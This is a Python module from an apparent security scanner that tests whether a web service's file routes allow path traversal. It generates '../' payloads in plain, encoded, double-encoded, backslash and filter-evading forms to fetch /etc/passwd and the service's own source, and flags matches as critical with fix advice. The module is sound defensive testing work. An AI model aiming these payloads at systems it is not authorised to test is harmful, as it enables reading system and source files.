"""Path traversal: does a route that takes a name serve a file from outside its folder?

Aimed at every path parameter of a GET, the rest of the path after a file-like segment
(`/files/`, `/static/`, `/download/`, …), query parameters named like a file, and the plan's
`file_routes`. Two files are asked for: /etc/passwd, and a file of the service's own working
tree (its script, or its project file), found from the service process's working directory.
Each is asked for through many levels of `../` (more than any storage folder is deep: the
extra ones stop at /), so one payload reaches it from wherever the route reads, written
plain, with `%2f`, all encoded, double-encoded, with backslashes, doubled (`....//`, against
a filter that removes `../` once) and as an absolute path.

A response that holds the file's content (`root:x:0:0:` for /etc/passwd, a distinctive line
of the source file) is critical. Only GETs are tried: a PUT to a traversed name would write.
"""

from __future__ import annotations

__all__ = ["run_traversal", "service_files"]

import re
import shlex
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import psutil

from gonogo.checks.security.probes._session import ProbeSession, Sent
from gonogo.checks.security.probes.surface import Endpoint
from gonogo.checks.security.target import Target

LEVELS = 12  # `../` repeated: deeper than any storage folder; the extra ones stop at /
FILE_SEGMENTS = re.compile(
    r"(?i)^(files?|static|download|downloads|uploads?|assets|media|images?|attachments?|content|raw|public)$"
)
FILE_NAMES = re.compile(
    r"(?i)(^|_|-)(name|file|filename|filepath|path|fname|key|doc|document|asset|attachment)$"
)
PASSWD = re.compile(r"root:[^:\n]*:0:0:")
PROJECT_FILES = (
    "pyproject.toml",
    "setup.py",
    "requirements.txt",
    "package.json",
    "go.mod",
    "Cargo.toml",
    "pom.xml",
)
FIX = (
    "never join a request's value to a folder as is: take its base name only (or look the file up by "
    "an id), resolve the joined path and refuse it unless it is still inside the served folder"
)


@dataclass(frozen=True)
class TargetFile:
    """A file outside every served folder, and how to recognise its content in a response."""

    path: str  # absolute
    marker: re.Pattern[str]
    label: str  # "/etc/passwd", "the service's source app.py"


@dataclass(frozen=True)
class _Spot:
    """Where a traversal payload goes: a path segment, a query value, or a plan's file route."""

    label: str  # `path name`, `query file`, `route /static/{}`
    operation: str
    # how to build the target: ("segment", index, "keep" or "drop" the segments after it),
    # ("query", index or "" to add it, name), ("route", route)
    make: tuple[str, ...]
    endpoint: Endpoint | None


def service_files(target: Target) -> list[TargetFile]:
    """One file of each watched service's working tree (the stronger evidence: the service's own
    source), then /etc/passwd where it exists."""
    files = _own_files(target)
    if Path("/etc/passwd").is_file():
        files.append(TargetFile("/etc/passwd", PASSWD, "/etc/passwd"))
    return files


def _own_files(target: Target) -> list[TargetFile]:
    files: list[TargetFile] = []
    if target.services is None:
        return files
    seen: set[str] = set()
    for name in target.service_names:
        try:
            processes = target.services.processes(name)
        except Exception:  # a service that is gone has no files to find: the crash is reported elsewhere
            continue
        for process in processes:
            found = _source_file(process.pid, process.command)
            if found is not None and found.path not in seen:
                seen.add(found.path)
                files.append(found)
                break
    return files


def _source_file(pid: int, command: str) -> TargetFile | None:
    try:
        cwd = Path(psutil.Process(pid).cwd())
    except (psutil.Error, OSError):
        return None
    candidates: list[Path] = []
    try:
        words = shlex.split(command)
    except ValueError:
        words = command.split()
    for word in words[1:]:
        if word.endswith(".py") or word.endswith(".js"):
            candidates.append(cwd / word)
        elif re.fullmatch(r"[A-Za-z_][\w.]*(:\w+)?", word) and not word.startswith("-"):
            candidates.append(cwd / (word.split(":")[0].replace(".", "/") + ".py"))
    candidates += [cwd / name for name in PROJECT_FILES]
    candidates += sorted(cwd.glob("*.py"))[:5]
    for candidate in candidates:
        marker = _marker(candidate)
        if marker is not None:
            return TargetFile(
                str(candidate.resolve()), re.compile(re.escape(marker)), f"the service's {candidate.name}"
            )
    return None


def _marker(path: Path) -> str | None:
    """A line of the file distinctive enough to recognise it in a response."""
    try:
        if not path.is_file():
            return None
        with path.open("rb") as handle:
            head = handle.read(4096).decode("utf-8", errors="replace")
    except OSError:
        return None
    lines = [line.strip() for line in head.splitlines()[:60] if "\ufffd" not in line]
    lines = [line for line in lines if len(line) >= 12]
    # A line of code rather than prose: a docstring's sentence may also be in the API's description.
    code = [line for line in lines if re.search(r"[=(){}\[\]:]", line) and not line.startswith("#")]
    if not (code or lines):
        return None
    return max(code or lines, key=len)[:120]


def payloads(file: TargetFile) -> list[tuple[str, str]]:
    """(encoding, payload as on the wire) for asking `file` through one value."""
    relative = file.path.lstrip("/")
    return [
        ("plain", "../" * LEVELS + relative),
        ("%2f", "..%2f" * LEVELS + relative.replace("/", "%2f")),
        ("encoded", "%2e%2e%2f" * LEVELS + quote(relative, safe="")),
        ("double-encoded", "%252e%252e%252f" * LEVELS + quote(relative, safe="").replace("%", "%25")),
        ("backslash", "..\\" * LEVELS + relative.replace("/", "\\")),
        ("%5c", "..%5c" * LEVELS + relative.replace("/", "%5c")),
        ("doubled", "....//" * LEVELS + relative),
        ("absolute", "/" + relative),
        ("absolute %2f", quote("/" + relative, safe="")),
    ]


def spots(session: ProbeSession, endpoints: list[Endpoint]) -> list[_Spot]:
    found: list[_Spot] = []
    for endpoint in endpoints:
        if endpoint.method != "GET":
            continue
        segments = endpoint.path.split("/")
        # A parameter's segment is replaced (what follows it stays: the same operation); the
        # rest of the path after a file-like segment (`/static/css/app.css`) is the file's path,
        # replaced whole.
        spots_here = {index: (f"path {name}", "keep") for index, name in endpoint.path_parameters}
        for index, segment in enumerate(segments[:-1]):
            if FILE_SEGMENTS.match(segment) and index + 1 not in spots_here:
                spots_here[index + 1] = (f"path after /{segment}/", "drop")
        for index, (label, rest) in sorted(spots_here.items()):
            found.append(_Spot(label, endpoint.label, ("segment", str(index), rest), endpoint))
        for point in endpoint.points():
            if point.location == "query" and FILE_NAMES.search(point.name):
                where = "" if point.where is None else str(point.where)
                found.append(_Spot(point.label, endpoint.label, ("query", where, point.name), endpoint))
    for route in session.settings.file_routes:
        if "{}" in route:
            found.append(
                _Spot(f"route {route}", f"GET {route.replace('{}', '{name}')}", ("route", route), None)
            )
    return found


def _target(spot: _Spot, payload: str) -> str:
    kind, where, *name = spot.make
    if kind == "route":
        return where.replace("{}", payload)
    assert spot.endpoint is not None
    if kind == "query":
        return spot.endpoint.with_query(int(where) if where else None, payload, *name)
    if name == ["keep"]:
        return spot.endpoint.with_segment(int(where), payload)
    segments = spot.endpoint.path.split("/")[: int(where)]
    return spot.endpoint.target("/".join([*segments, payload]))


async def run_traversal(session: ProbeSession, endpoints: list[Endpoint]) -> None:
    files = service_files(session.target)
    if not any(file.path != "/etc/passwd" for file in files):
        session.result.notes.append(
            "traversal: no file of the service's own working tree was found to ask for "
            "(no watched service process); only /etc/passwd was tried"
        )
    for spot in spots(session, endpoints):
        headers = spot.endpoint.headers if spot.endpoint else (("Accept", "*/*"),)
        if not await _try_spot(session, spot, files, headers):
            return


async def _try_spot(
    session: ProbeSession, spot: _Spot, files: list[TargetFile], headers: tuple[tuple[str, str], ...]
) -> bool:
    """Every payload for every file on one spot, until the first hit; False when the budget is spent."""
    for file in files:
        for encoding, payload in payloads(file):
            sent = Sent("GET", _target(spot, payload), tuple(headers))
            response = await session.send(sent, spot.operation, payload=True)
            if response is None:
                return False
            if response.status is None:
                continue
            if file.marker.search(response.text()):
                session.add(
                    "traversal.file-outside",
                    f"{spot.operation} serves {file.label} when {spot.label} is {encoding} `../`s",
                    "critical",
                    "traversal",
                    spot.operation,
                    sent,
                    response,
                    FIX,
                    {"parameter": spot.label, "payload": payload, "encoding": encoding, "file": file.path},
                )
                return True
    return True
